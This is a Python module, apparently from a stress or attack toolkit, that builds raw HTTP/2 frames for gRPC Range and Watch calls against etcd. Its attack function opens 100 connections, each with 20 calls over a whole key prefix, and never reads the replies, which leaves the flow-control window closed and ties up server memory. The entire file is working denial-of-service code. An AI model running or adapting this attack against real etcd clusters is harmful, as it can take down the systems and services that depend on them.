"""Watches by gRPC that read nothing, and ranges over everything that nobody takes: HTTP/2 by hand,
with a window that is never opened again."""
import collections
import struct

import way_in

NAME = "gRPC that is not read"
SIZE = 100
CALLS = 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS = 0, 1, 4
END_STREAM, END_HEADERS = 1, 4
# ranges and watches of [PREFIX, PREFIX + 1)
KEY = way_in.PREFIX.encode()
END = KEY[:-1] + bytes([KEY[-1] + 1])


def frame(kind, flags, stream, body):
    size = struct.pack(">I", len(body))[1:]
    return size + bytes([kind, flags]) + struct.pack(">I", stream) + body


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def field(number, body):
    return bytes([number << 3 | 2, len(body)]) + body


def call(stream, path, message):
    head = b"".join(literal(*pair) for pair in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"a"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers")))
    return frame(HEADERS, END_HEADERS, stream, head) + \
        frame(DATA, 0, stream, b"\x00" + struct.pack(">I", len(message)) + message)


def everything():
    ask = field(1, KEY) + field(2, END)
    said = PREFACE + frame(SETTINGS, 0, 0, b"")
    for n in range(CALLS):
        if n % 2:
            said += call(2 * n + 1, b"/etcdserverpb.KV/Range", ask + b"\x38\x01")  # serializable
        else:
            said += call(2 * n + 1, b"/etcdserverpb.Watch/Watch", field(1, ask))
    return said


def attack(host, port, stop, log):
    log(f"{SIZE} connections with {CALLS} calls that read nothing")
    counts = collections.Counter()
    way_in.hold(host, port, stop, SIZE, everything(), counts, receive_bytes=4096)
    return counts
